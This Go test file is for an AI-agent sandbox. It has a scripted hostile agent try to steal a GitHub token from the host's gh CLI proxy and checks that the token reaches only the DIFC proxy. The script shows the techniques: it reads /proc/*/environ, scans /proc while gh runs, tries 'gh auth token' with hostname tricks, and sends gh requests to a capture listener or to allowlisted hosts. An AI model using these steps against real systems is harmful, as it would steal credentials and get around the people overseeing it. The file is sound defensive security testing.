package runner

import (
	"crypto/tls"
	"encoding/json"
	"io"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"testing"

	"github.com/awf-dev/awf/internal/cliproxy"
	"github.com/awf-dev/awf/internal/testnet"
)

// TestCLIProxyTokenGoesOnlyToDIFC is the agent trying to make the host's
// gh (which holds the token) send it somewhere the agent can read: a plain
// HTTP listener of its own on the sandbox's loopback, reached with
// `gh api http://127.0.0.1:<port>/...` (gh adds its token for any host
// that is not github.com), or with --hostname. The token must reach the
// DIFC proxy and nothing else.
func TestCLIProxyTokenGoesOnlyToDIFC(t *testing.T) {
	testnet.Require(t)
	if _, err := os.Stat("/usr/bin/gh"); err != nil {
		t.Skip("needs the host's gh (apt-get install gh)")
	}
	if _, err := os.Stat("/usr/bin/python3"); err != nil {
		t.Skip("needs python3 for the agent's listener")
	}
	ca, err := testnet.NewCA()
	if err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	caFile := filepath.Join(dir, "ca.crt")
	os.WriteFile(caFile, ca.PEM(), 0o644)
	ln, err := tls.Listen("tcp", "127.0.0.1:0", &tls.Config{Certificates: []tls.Certificate{ca.Leaf("localhost", "127.0.0.1")}})
	if err != nil {
		t.Fatal(err)
	}
	// The DIFC proxy (GitHub behind it) echoes what gh sent, as an issue
	// body would come back to the agent.
	difc := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(io.LimitReader(r.Body, 1<<20))
		w.Header().Set("Content-Type", "application/json")
		json.NewEncoder(w).Encode(map[string]any{"login": "octocat", "echo": string(b), "auth": r.Header.Get("Authorization") != ""})
	})
	srv := &http.Server{Handler: difc}
	go srv.Serve(ln)
	defer srv.Close()
	port := ln.Addr().(*net.TCPAddr).Port
	token := secret("ghs_")

	// The agent's listener: records every request head it gets, answers {}.
	listener := `import socket,sys
s=socket.socket(); s.setsockopt(socket.SOL_SOCKET,socket.SO_REUSEADDR,1)
s.bind((sys.argv[1],int(sys.argv[2]))); s.listen(8); s.settimeout(20)
f=open(sys.argv[3],'ab')
while True:
  try: c,_=s.accept()
  except Exception: break
  c.settimeout(3)
  try: f.write(c.recv(65536)); f.flush()
  except Exception: pass
  try: c.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}")
  except Exception: pass
  c.close()
`
	script := strings.Join([]string{
		"set +e",
		"d=$(mktemp -d); trap 'rm -rf $d' EXIT",
		"cat > $d/l.py <<'PY'\n" + listener + "PY",
		"python3 $d/l.py 127.0.0.1 9911 $d/got & l1=$!; python3 $d/l.py 172.30.0.50 9912 $d/got & l2=$!",
		"sleep 0.5",
		"echo difc: $(gh api /user)",
		"for f in /proc/self/environ /proc/thread-self/environ /dev/fd/../environ /proc/1/environ; do gh api -X POST /user --input $f; gh api /user -F q=@$f; done",
		// gh blocked on a FIFO of the agent's: is it visible from here?
		"chmod 755 $d; mkfifo -m 666 $d/fifo",
		"gh api -X POST /user --input $d/fifo > $d/fifo.out 2>&1 & g=$!",
		"sleep 1",
		"echo ghproc: $(for p in /proc/[0-9]*; do stat -c '%u %n' $p; done 2>/dev/null | grep -v '^1000 ' | grep -v '^0 ' | tr '\\n' ' ')",
		probe("grep", reverse(token), "/proc"),
		"echo '{}' > $d/fifo; wait $g",
		"echo fifo: $(cat $d/fifo.out)",
		"echo authtok: $(gh --hostname - auth token 2>&1)",
		"echo emptytok: $(gh '' auth token 2>&1)",
		"gh api http://127.0.0.1:9911/a >/dev/null 2>&1",
		"gh api http://localhost:9911/b >/dev/null 2>&1",
		"gh api http://172.30.0.50:9912/c >/dev/null 2>&1",
		"gh api --hostname 127.0.0.1:9911 /d >/dev/null 2>&1",
		"gh api -H 'Host: x' http://[::ffff:127.0.0.1]:9911/e >/dev/null 2>&1",
		"echo got: $(cat $d/got 2>/dev/null | tr -d \"\\r\" | grep -a -i authorization)",
		"echo heads: $(grep -a -c '^GET' $d/got 2>/dev/null)",
		"kill $l1 $l2",
	}, "\n")
	r := awf(t, []string{"GH_TOKEN=" + token, "GITHUB_REPOSITORY=octo/repo"},
		"--difc-proxy-host", "host.docker.internal:"+strconv.Itoa(port), "--difc-proxy-ca-cert", caFile, "--", script)
	got := lines(r.stdout)
	if !strings.Contains(got["difc"], `"login":"octocat"`) {
		t.Errorf("gh through the DIFC proxy: %q", got["difc"])
	}
	if !strings.Contains(got["fifo"], `"echo":"{}`) {
		t.Errorf("gh did not read the agent's FIFO (so it was not running during the scan): %q", got["fifo"])
	}
	if got["ghproc"] != "" {
		t.Errorf("the agent sees gh's process: %q", got["ghproc"])
	}
	if !strings.Contains(r.stdout, "ok absent") {
		t.Errorf("the token is in the agent's /proc while gh runs")
	}
	for _, k := range []string{"authtok", "emptytok"} {
		if !strings.Contains(got[k], "Subcommand 'auth' is not permitted") {
			t.Errorf("%s: %q", k, got[k])
		}
	}
	if strings.Contains(r.stdout, token) {
		t.Errorf("the agent received the token:\n%s", r.stdout)
	}
	if t.Failed() || testing.Verbose() {
		t.Logf("stdout:\n%s\nstderr:\n%s", r.stdout, r.stderr)
	}
}

// TestCLIProxyTokenNotSentToAllowedHosts: gh adds its token to requests
// for any host but github.com, so the agent could point it at a host the
// allowlist admits (`gh api http://<host>/`, `--hostname <host>`) and
// read the token there. gh holds only a placeholder: the allowed host
// receives that, while the DIFC proxy still gets the real token (the relay
// swaps it in).
func TestCLIProxyTokenNotSentToAllowedHosts(t *testing.T) {
	testnet.Require(t)
	if _, err := os.Stat("/usr/bin/gh"); err != nil {
		t.Skip("needs the host's gh (apt-get install gh)")
	}
	ca, err := testnet.NewCA()
	if err != nil {
		t.Fatal(err)
	}
	caFile := filepath.Join(t.TempDir(), "ca.crt")
	os.WriteFile(caFile, ca.PEM(), 0o644)
	ln, err := tls.Listen("tcp", "127.0.0.1:0", &tls.Config{Certificates: []tls.Certificate{ca.Leaf("localhost", "127.0.0.1")}})
	if err != nil {
		t.Fatal(err)
	}
	difc := &fakeDIFC{}
	srv := &http.Server{Handler: difc}
	go srv.Serve(ln)
	defer srv.Close()
	port := ln.Addr().(*net.TCPAddr).Port

	// An allowlisted host whose logs the agent could read: it records the
	// Authorization of every request.
	var mu sync.Mutex
	var seen []string
	up := testnet.NewPlainUpstream(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		seen = append(seen, r.URL.Path+" auth="+r.Header.Get("Authorization"))
		mu.Unlock()
		w.Header().Set("Content-Type", "application/json")
		io.WriteString(w, "{}")
	}))
	token := secret("ghs_")
	script := strings.Join([]string{
		"set +e",
		"echo difc: $(gh api /user)",
		"gh api http://" + up.Name + "/direct >/dev/null 2>&1; echo direct: $?",
		"gh api --hostname " + up.Name + " /viahostname >/dev/null 2>&1; echo viahostname: $?",
	}, "\n")
	r := awf(t, []string{"GH_TOKEN=" + token},
		"-d", up.Name, "--difc-proxy-host", "host.docker.internal:"+strconv.Itoa(port), "--difc-proxy-ca-cert", caFile, "--", script)
	got := lines(r.stdout)
	if !strings.Contains(got["difc"], `"login":"octocat"`) {
		t.Errorf("gh through the DIFC proxy: %q", got["difc"])
	}
	difc.mu.Lock()
	difcSeen := strings.Join(difc.seen, "\n")
	difc.mu.Unlock()
	if !strings.Contains(difcSeen, "auth=token "+token) {
		t.Errorf("the DIFC proxy did not get the real token:\n%s", difcSeen)
	}
	mu.Lock()
	upSeen := strings.Join(seen, "\n")
	mu.Unlock()
	// The probe reached the host with gh's credential: the placeholder.
	if !strings.Contains(upSeen, "/direct auth=token "+cliproxy.PlaceholderToken) {
		t.Errorf("gh did not reach the allowed host with its credential (the test proves nothing):\n%s", upSeen)
	}
	if strings.Contains(upSeen, token) {
		t.Errorf("an allowed host received the token:\n%s", upSeen)
	}
	if t.Failed() || testing.Verbose() {
		t.Logf("stdout:\n%s\nstderr:\n%s\nupstream saw:\n%s", r.stdout, r.stderr, upSeen)
	}
}
